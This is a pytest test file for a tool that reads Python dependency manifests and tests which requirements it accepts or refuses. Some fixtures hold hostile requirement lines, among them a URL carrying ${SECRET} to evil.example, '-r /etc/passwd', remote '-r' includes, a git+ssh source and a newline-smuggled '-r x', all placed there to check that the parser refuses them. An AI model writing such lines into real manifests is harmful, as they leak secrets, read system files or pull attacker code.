"""Statements of Python manifests as asks: what is asked, in which words, from where; and what is told to no engine."""

from collections.abc import Callable, Mapping
from typing import Any

import pytest

from plumbrule.core.errors import InvalidArgument
from plumbrule.mcp_server.dependencies.joining.join import Joined
from plumbrule.mcp_server.dependencies.joint.asks import RuntimeAsk, Subject, Wishes
from plumbrule.mcp_server.dependencies.joint.python_asks import CALLER, python_asks, python_wished
from plumbrule.mcp_server.dependencies.joint.python_words import pep440, pep508_marker, requirement_line
from plumbrule.mcp_server.dependencies.joint.targets import Target

Join = Callable[[Mapping[str, str | bytes]], Joined]
ALL = ("runtime", "optional", "dev", "test", "build")


def asked(joined: Joined, *runtimes: RuntimeAsk, **wishes: Any) -> tuple[list[str], list[tuple[str, str, str, int]]]:
    """Asks as `path:line kind requirement`, and what was not checked."""
    asks, refused = python_asks(3, Subject("repo", joined, runtimes), Target("3.12"), Wishes(**wishes))
    assert all(one.subject == 3 and one.ecosystem == "python" for one in asks)
    return (
        [f"{one.path}:{one.line} {one.kind} {one.requirement}" for one in asks],
        [(one.reason, one.written, one.path, one.line) for one in refused],
    )


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("", ""),
        ("*", ""),
        (">=1,<2", "<2,>=1"),
        ("~=1.4.2", "~=1.4.2"),
        ("^1.2", "<2,>=1.2"),
        ("^1.2.3", "<2,>=1.2.3"),
        ("^0.2.3", "<0.3,>=0.2.3"),
        ("^0.0.3", "<0.0.4,>=0.0.3"),
        ("^0.0", "<0.1,>=0.0"),
        ("^0", "<1,>=0"),
        ("~1.2.3", "<1.3,>=1.2.3"),
        ("~1.2", "<1.3,>=1.2"),
        ("~1", "<2,>=1"),
        ("1.2.3", "==1.2.3"),
        ("=1.2.3", "==1.2.3"),
        ("1.*", "==1.*"),
        (">=1.2 <2", "<2,>=1.2"),
        ("^1.26 || ^2.0", ">=1.26,<3"),
        ("^1 || ^3", ">=1,<4,!=2.*"),
        ("~1.2 || ~1.4 || ~1.5", ">=1.2,<1.6,!=1.3.*"),
        ("<1 || >=1.2", "!=1.0.*,!=1.1.*"),
        ("<2 || >=3.1", "!=2.*,!=3.0.*"),
        ("^2.7 || ^3.5", ">=2.7,<4,!=3.0.*,!=3.1.*,!=3.2.*,!=3.3.*,!=3.4.*"),
        ("~2.7 || ^3.5", None),  # 2.8, 2.9, 2.10, … have no end that PEP 440 can name
        ("1.0 || 1.2", None),
        ("latest", None),
        ("^1.x", None),
    ],
)
def test_a_constraint_is_written_out_exactly_or_not_at_all(written: str, expected: str | None) -> None:  # S-46
    from packaging.specifiers import SpecifierSet

    made = pep440(written)
    assert (made is None) == (expected is None)
    assert made is None or SpecifierSet(made) == SpecifierSet(expected or "")


def test_alternatives_hold_exactly_what_each_of_them_holds() -> None:
    from packaging.specifiers import SpecifierSet

    versions = [f"{a}.{b}.{c}" for a in range(4) for b in range(6) for c in range(3)]
    for text in (
        "^1.2 || ^3",
        "~1.2 || ~1.4",
        "<1 || >=1.3",
        ">=0.3,<1 || >=2",
        "^1 || ^2.3 || ^3.1",
        "==1.* || >=2.2",
    ):
        made = pep440(text)
        assert made is not None, text
        one = SpecifierSet(made)
        parts = [SpecifierSet(pep440(part) or "") for part in text.split("||")]
        for version in versions:
            assert one.contains(version) == any(part.contains(version) for part in parts), (text, version)


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("sys_platform == 'win32'", "sys_platform == 'win32'"),
        ("python ^3.8", "python_version < '4' and python_version >= '3.8'"),
        (
            "python ~2.7 || ^3.5",
            (
                "((python_version < '2.8' and python_version >= '2.7')"
                " or (python_version < '4' and python_version >= '3.5'))"
            ),
        ),
        ("python 3.8.*", "python_version == '3.8'"),
        ("python >=3.8.1", "python_full_version >= '3.8.1'"),
        ("platform win32", "sys_platform == 'win32'"),
        (
            "os_name == 'nt' or os_name == 'x' and python <3.9",
            "(os_name == 'nt' or os_name == 'x') and python_version < '3.9'",
        ),
        ("platform linux and python *", "sys_platform == 'linux'"),
        ("python nonsense", None),
    ],
)
def test_poetrys_own_markers_become_pep_508(written: str, expected: str | None) -> None:
    made = pep508_marker(written)
    if expected is not None:
        assert made is not None
        assert requirement_line("x", (), "", written) == requirement_line("x", (), "", expected)
    assert made == expected


def test_each_form_of_manifest_asks_with_its_place(joined: Callable[..., Joined]) -> None:  # S-34, S-52
    tree = {
        "pyproject.toml": """[project]
name = "Mine"
dependencies = [
  "Requests[socks] >=2.31 ; python_version < '3.13'",
  "mine[fast]",
]
[project.optional-dependencies]
fast = ["orjson>=3"]
slow = ["simplejson"]
[dependency-groups]
dev = ["ruff"]
""",
        "poetry/pyproject.toml": """[tool.poetry]
name = "inner"
[tool.poetry.dependencies]
python = "^3.9"
attrs = "^23.1"
winreg = {version = "~1.0", platform = "win32"}
far = "~2.7 || ^3.5"
placed = {git = "https://git.example/x.git"}
""",
        "Pipfile": """[packages]
flask = "*"
six = "==1.16.0"
[dev-packages]
pytest = "*"
""",
        "environment.yml": "dependencies:\n  - numpy=1.26\n  - pip:\n    - httpx<1\n",
    }
    asks, refused = asked(joined(tree))
    assert asks == [
        'pyproject.toml:4 package requests[socks]>=2.31; python_version < "3.13"',
        "pyproject.toml:8 package orjson>=3",
        "poetry/pyproject.toml:5 package attrs<24,>=23.1",
        'poetry/pyproject.toml:6 package winreg<1.1,>=1.0; sys_platform == "win32"',
        "Pipfile:2 package flask",
        "Pipfile:3 package six==1.16.0",
        "environment.yml:4 package httpx<1",
    ]
    assert refused == [
        ("requirement.unreadable", "far ~2.7 || ^3.5", "poetry/pyproject.toml", 7),
        ("requirement.vcs", "placed @ git+https://git.example/x.git", "poetry/pyproject.toml", 8),
    ]
    everything, _ = asked(joined(tree), scopes=ALL)
    assert {one.partition(" package ")[2] for one in everything} >= {"simplejson", "ruff", "pytest", "orjson>=3"}


def test_no_place_is_followed_and_each_is_told(joined: Callable[..., Joined]) -> None:  # S-56
    text = """--index-url https://u:${SECRET}@index.example/simple
--find-links ./wheels
-r https://evil.example/more.txt
-r /etc/passwd
flask>=2 --hash=sha256:0123456789012345678901234567890123456789012345678901234567890123
https://evil.example/${SECRET}/x-1.0.tar.gz
pkg @ https://evil.example/pkg-1.0.whl
-e git+ssh://git@evil.example/y.git#egg=y
../outside
not a requirement !!
-e .
"""
    asks, refused = asked(
        joined({"requirements.txt": text, "setup.py": "from setuptools import setup\nsetup(name='me')\n"})
    )
    assert asks == ["requirements.txt:5 package flask>=2"]
    assert [(reason, line) for reason, _, path, line in refused if path == "requirements.txt"] == [
        ("requirement.url", 6),
        ("requirement.url", 7),
        ("requirement.vcs", 8),
        ("requirement.path", 9),
        ("requirement.index-option", 1),
        ("requirement.index-option", 2),
        ("python.not-a-requirement", 10),
        ("requirements.not-followed", 3),
        ("requirements.not-followed", 4),
    ]


def test_constraints_hold_for_all_and_are_no_requirements(joined: Callable[..., Joined]) -> None:  # S-56
    tree = {
        "requirements.txt": "-c limits.txt\nflask\ndjango>=3\n",
        "limits.txt": "flask==2.0\nwerkzeug<3\n",
        "requirements-dev.txt": "-c dev-limits.txt\nruff\n",
        "dev-limits.txt": "black<24\n",
        "pyproject.toml": '[project]\nname = "a"\n[tool.uv]\nconstraint-dependencies = ["idna<4"]\n'
        'override-dependencies = ["attrs==1"]\n',
    }
    asks, refused = asked(joined(tree))
    assert asks == [
        "requirements.txt:2 package flask==2.0",
        "requirements.txt:3 package django>=3",
        "pyproject.toml:4 constraint idna<4",
        "limits.txt:2 constraint werkzeug<3",
    ]
    assert refused == [("requirement.override", "attrs==1", "pyproject.toml", 5)]


def test_requirements_files_of_a_packaged_repository_are_for_working_on_it(joined: Callable[..., Joined]) -> None:
    files = {
        "requirements.txt": "a\n",
        "requirements/prod.txt": "b\n",
        "requirements/release_requirements.txt": "c\n",
        ".github/people/requirements.txt": "d\n",
        "ci_requirements.txt": "e\n",
    }
    alone, _ = asked(joined(files))
    packaged, _ = asked(joined({**files, "pyproject.toml": '[project]\nname = "x"\ndependencies = ["f"]\n'}))
    assert {one.rpartition(" ")[2] for one in alone} == {"a", "b", "c", "e"}
    assert {one.rpartition(" ")[2] for one in packaged} == {"a", "b", "f"}


def test_workspace_members_and_their_extras_are_the_repositorys_own(joined: Callable[..., Joined]) -> None:
    tree = {
        "pyproject.toml": '[project]\nname = "root"\ndependencies = ["member[all]", "httpx"]\n'
        "[tool.uv.sources]\nmember = {workspace = true}\n",
        "packages/member/pyproject.toml": '[project]\nname = "member"\ndependencies = ["anyio"]\n'
        "[project.optional-dependencies]\nall = [\"member[one,two]\"]\none = ['h11']\ntwo = ['h2']\nthree = ['h3']\n",
    }
    asks, refused = asked(joined(tree))
    assert {one.rpartition(" ")[2] for one in asks} == {"httpx", "anyio", "h11", "h2"}
    assert refused == []


def test_declared_ranges_of_python_are_asks_and_pins_are_not(joined: Callable[..., Joined]) -> None:
    runtimes = (
        RuntimeAsk("python", ">=3.9", "pyproject.toml", 3, "pyproject.requires-python"),
        RuntimeAsk("python", "^3.10", "b/pyproject.toml", 4, "pyproject.poetry"),
        RuntimeAsk("python", "3.11", "Pipfile", 9, "pipfile"),
        RuntimeAsk("python", "3.12.1", ".python-version", 1, "version-file"),
        RuntimeAsk("node", ">=20", "package.json", 1, "package-json.engines"),
        RuntimeAsk("python", "whatever", "c/setup.cfg", 2, "setup-cfg"),
    )
    asks, refused = asked(joined({"pyproject.toml": "[project]\nname='a'\n"}), *runtimes)
    assert asks == [
        "pyproject.toml:3 runtime >=3.9",
        "b/pyproject.toml:4 runtime <4,>=3.10",
        "Pipfile:9 runtime ==3.11.*",
    ]
    assert refused == [("requirement.unreadable", "whatever", "c/setup.cfg", 2)]


def test_a_lock_is_asked_on_request_only(joined: Callable[..., Joined]) -> None:
    tree = {
        "pyproject.toml": "[project]\nname = 'a'\ndependencies = ['idna']\n",
        "uv.lock": 'version = 1\n[[package]]\nname = "a"\nsource = {virtual = "."}\ndependencies = [{name = "idna"}]\n'
        '[[package]]\nname = "idna"\nversion = "3.6"\nsource = {registry = "https://pypi.org/simple"}\n'
        '[[package]]\nname = "b"\nversion = "1.0"\nsource = {registry = "x"}\n'
        '[[package]]\nname = "b"\nversion = "2.0"\nsource = {registry = "x"}\n',
    }
    assert asked(joined(tree))[0] == ["pyproject.toml:3 package idna"]
    assert asked(joined(tree), locked=True)[0] == ["pyproject.toml:3 package idna", "uv.lock:7 lock idna==3.6"]


def test_computed_lists_are_told_and_no_flood_passes(joined: Callable[..., Joined]) -> None:
    _, refused = asked(joined({"pyproject.toml": "[project]\nname = 'a'\ndynamic = ['dependencies']\n"}))
    assert refused == [("python.computed", "", "pyproject.toml", 3)]
    many = "".join(f"p{n}>=1\n" for n in range(20_000))
    clauses = "x" + ",".join(f"!={n}" for n in range(2_500)) + "\n"
    asks, refused = asked(joined({"requirements.txt": clauses + many}))
    assert len(asks) == 5_000
    assert refused == [
        ("dependencies.cut", "", "requirements.txt", 5_001),
        ("dependencies.cut", "", "requirements.txt", 0),
    ]


def test_the_caller_adds_and_constrains(joined: Callable[..., Joined]) -> None:
    found = python_wished(
        Wishes(added=("pandas>=2 ; python_version>'3.8'", "npm:react@^18"), constraints=("pypi:numpy<2",))
    )
    assert [(one.subject, one.kind, one.name, one.requirement, one.path) for one in found] == [
        (CALLER, "added", "pandas", 'pandas>=2; python_version > "3.8"', ""),
        (CALLER, "constraint", "numpy", "numpy<2", ""),
    ]


@pytest.mark.parametrize(
    "wishes",
    [
        Wishes(added=("https://evil.example/x.whl",)),
        Wishes(added=("x @ https://evil.example/x.whl",)),
        Wishes(added=("git+https://evil.example/x",)),
        Wishes(added=("-r /etc/passwd",)),
        Wishes(added=("--index-url=https://evil.example",)),
        Wishes(added=("numpy>>2",)),
        Wishes(added=("numpy\n-r x",)),
        Wishes(constraints=("numpy",)),
        Wishes(constraints=("numpy[x]<2",)),
    ],
)
def test_a_wish_that_cannot_be_asked_is_refused_with_what_to_write(wishes: Wishes) -> None:
    with pytest.raises(InvalidArgument) as caught:
        python_wished(wishes)
    assert "numpy<2" in caught.value.hint
